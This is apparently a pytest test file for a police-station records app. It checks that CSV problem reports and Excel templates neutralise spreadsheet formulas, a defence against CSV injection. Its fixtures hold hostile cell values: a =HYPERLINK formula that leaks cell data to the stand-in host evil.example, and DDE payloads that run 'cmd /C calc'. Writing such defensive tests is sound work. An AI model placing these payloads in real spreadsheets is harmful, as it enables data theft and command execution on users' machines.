"""CSV/XLSX the app writes never carry a live formula (issue 12 §2, OWASP CSV injection): a name
typed as =HYPERLINK(...) comes back in the problem report as text; numbers stay numbers; and the
fixed report imports the values exactly as they were typed. The old report wrote them as they came."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from station_app.core.formula_cells import neutralise, restore
from station_app.core.importers.templates import write_template
from station_app.core.keys import KeyStore
from station_app.core.models.records import Fir
from station_app.core.paths import DataDir
from station_app.core.permissions import Actor
from station_app.core.runtime import StationServices, set_up_station
from tests.conftest import IDENTITY, SHO, SHO_PASSWORD
from tests.fixtures.import_files import fir_rows, headers, write_csv
from tests.helpers.clock import ManualClock

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE = {
    "complainant_name": LINK,
    "complainant_relative_name": "+cmd|' /C calc'!A0",
    "complainant_address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "place": "-2+3+cmd|' /C calc'!A0",
}
WITH_CONTROLS = {**HOSTILE, "accused": "\t=1+1", "original_officer": "\r=1+1"}


@pytest.fixture
def svc(data_dir: DataDir, keystore: KeyStore) -> Iterator[StationServices]:
    outcome = set_up_station(data_dir, keystore, ManualClock(), IDENTITY, SHO, SHO_PASSWORD)
    yield outcome.services
    outcome.services.close()


@pytest.fixture
def officer(svc: StationServices) -> Actor:
    return svc.accounts.login(SHO.username, SHO_PASSWORD)


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # an apostrophe typed before it keeps its own
        ("-5", "-5"),  # a plain number cannot be a formula: left as it is
        ("+91", "+91"),
        ("-0.25", "-0.25"),
        ("1e3", "1e3"),
        ("Ram Lal", "Ram Lal"),
        ("", ""),
        ("a=b", "a=b"),  # only the first character counts
        ("-१२", "'-१२"),  # Devanagari digits: Excel takes them for a formula, not a number
    ],
)
def test_each_formula_start_is_neutralised(typed: str, written: str) -> None:
    assert neutralise(typed) == written
    assert restore(written) == typed


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text: str) -> None:
    written = neutralise(text)
    assert restore(written) == text
    if written.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(written)  # left unquoted only as a plain number


def _report_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    keys = [h[h.rindex("[") + 1 : -1] for h in lines[0]]
    return [dict(zip(keys, line, strict=True)) for line in lines[1:]]


def test_the_problem_report_writes_formulas_as_text_and_imports_them_back(
    svc: StationServices, officer: Actor, tmp_path: Path
) -> None:
    rows = list(fir_rows(3))
    rows[1].update(HOSTILE, acts_sections="BNS 303(2)")  # a problem, so the row goes into the report
    rows[2].update(complainant_name=LINK, fir_year="2020")  # stored problem text of the real import
    source = write_csv(tmp_path / "register.csv", "fir", rows)
    report = tmp_path / "problems.csv"
    summary = svc.imports.run(officer, source, report=report)
    assert (summary.imported, summary.problem_rows) == (1, 2)

    written = _report_rows(report)
    for line in written:
        for key, value in line.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value.lstrip("+-").isdigit(), (
                key,
                value,
            )
    assert {k: written[0][k] for k in HOSTILE} == {k: "'" + v for k, v in HOSTILE.items()}
    assert written[1]["complainant_name"] == "'" + LINK
    assert written[0]["fir_number"] == "2" and written[1]["fir_number"] == "3"  # numbers untouched

    # The clerk fixes both rows in Excel (which keeps the text as it is) and imports the report.
    written[0]["acts_sections"], written[1]["fir_year"] = "IPC 379, 411", "2019"
    with report.open(encoding="utf-8-sig", newline="") as handle:
        header = next(csv.reader(handle))
    with report.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(
            [header, *([line[k[k.rindex("[") + 1 : -1]] for k in header] for line in written)]
        )
    fixed = svc.imports.run(officer, report)
    assert (fixed.imported, fixed.problem_rows) == (2, 0)
    with svc.db.read() as s:
        names = sorted(s.scalars(select(Fir.complainant_name).where(Fir.number.in_([2, 3]))))
    assert names == [LINK, LINK]  # exactly as typed: the apostrophe came off again


def test_the_dry_run_report_is_neutralised_too(svc: StationServices, officer: Actor, tmp_path: Path) -> None:
    rows = list(fir_rows(2))
    rows[0].update(WITH_CONTROLS, acts_sections="BNS 303(2)")
    report = tmp_path / "dry.csv"
    svc.imports.dry_run(officer, write_csv(tmp_path / "r.csv", "fir", rows), report=report)
    [line] = _report_rows(report)
    # the reader trims a cell's surrounding blanks (tab, CR), so those two come back as "'=1+1"
    assert {k: line[k] for k in WITH_CONTROLS} == {k: "'" + v.strip() for k, v in WITH_CONTROLS.items()}


def test_templates_hold_no_formula_cells(svc: StationServices, tmp_path: Path) -> None:
    for kind in ("fir", "gd", "arrest"):
        book = load_workbook(write_template(kind, tmp_path / f"{kind}.xlsx", svc.outputs))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
        assert headers(kind) == [c.value for c in book.worksheets[0][1]]
